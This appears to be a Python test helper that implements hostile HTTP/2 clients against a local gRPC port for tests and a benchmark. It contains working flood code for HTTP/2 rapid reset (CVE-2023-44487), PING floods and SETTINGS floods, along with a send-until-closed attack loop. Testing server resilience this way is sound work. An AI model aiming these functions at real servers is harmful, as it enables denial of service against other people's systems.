"""Hostile HTTP/2 clients for the gRPC port, written with the `h2` library so that every frame
is exactly what an attacker would send: rapid reset (CVE-2023-44487), PING and SETTINGS floods,
half-open connections. Shared by the hostile-client tests and the `hostile` benchmark."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

import h2.config
import h2.connection
import h2.events
import trio
import trio.lowlevel
from h2.errors import ErrorCodes

from .grpc_clients import SEND_STATUS

ATTACKER: Final = "127.0.0.2"  # an attacker's address (all of 127/8 is loopback on Linux)
PER_WRITE: Final = 200  # frames (or stream pairs) per write, as in the reported attack
GRPC_HEADERS: Final = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", SEND_STATUS),
    (":authority", "127.0.0.1"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]

Attack = Callable[[h2.connection.H2Connection], None]


class H2Client:
    """One raw HTTP/2 connection to the gRPC port."""

    def __init__(self, stream: trio.SocketStream) -> None:
        self.stream = stream
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config)
        self.goaway: ErrorCodes | None = None
        self.closed = False
        self.events: list[h2.events.Event] = []

    @classmethod
    async def connect(cls, port: int, source: str | None = None) -> H2Client:
        """A connection from `source` (an address of this host; the default: the OS's)."""
        client = cls(await trio.open_tcp_stream("127.0.0.1", port, local_address=source))
        client.conn.initiate_connection()
        try:
            await client.flush()
        except trio.BrokenResourceError:
            client.closed = True  # refused when accepted, and already reset
        return client

    async def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            await self.stream.send_all(data)

    async def receive(self) -> bool:
        """Read what the server sent; False once it closed the connection."""
        try:
            data = await self.stream.receive_some()
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            data = b""
        if not data:
            self.closed = True
            return False
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return True  # frames on streams we already reset; only GOAWAY matters here
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = ErrorCodes(event.error_code)
        self.events += events
        return True

    async def send_body(self, stream_id: int, body: bytes) -> None:
        """`body` on `stream_id` as the server's flow-control windows allow, then its end."""
        sent = 0
        while sent < len(body):
            window = min(
                self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size
            )
            if window == 0:
                await self.flush()
                if not await self.receive():  # a WINDOW_UPDATE, or the server's answer
                    return
                continue
            self.conn.send_data(stream_id, body[sent : sent + window])
            sent += window
        self.conn.end_stream(stream_id)
        await self.flush()

    async def attack(self, frames: Attack) -> None:
        """Send `frames` write after write until the server closes the connection.

        Raises:
            trio.BrokenResourceError: never; a write refused by a closed socket ends the attack.
        """
        async with trio.open_nursery() as nursery:
            nursery.start_soon(self._read_until_closed, nursery.cancel_scope)
            try:
                while True:
                    frames(self.conn)
                    await self.flush()
                    await trio.lowlevel.checkpoint()
            except (trio.BrokenResourceError, trio.ClosedResourceError, h2.exceptions.H2Error):
                pass
            await trio.sleep_forever()  # the reader ends this once the server closed

    async def _read_until_closed(self, scope: trio.CancelScope) -> None:
        while await self.receive():
            pass
        scope.cancel()

    async def aclose(self) -> None:
        await self.stream.aclose()


def rapid_reset(conn: h2.connection.H2Connection) -> None:
    for _ in range(PER_WRITE):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, GRPC_HEADERS)
        conn.reset_stream(stream_id, ErrorCodes.CANCEL)


def ping_flood(conn: h2.connection.H2Connection) -> None:
    for n in range(PER_WRITE):
        conn.ping(n.to_bytes(8, "big"))


def settings_flood(conn: h2.connection.H2Connection) -> None:
    for n in range(PER_WRITE):
        conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096 + n % 2})


ATTACKS: Final[dict[str, Attack]] = {
    "rapid reset": rapid_reset,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
}
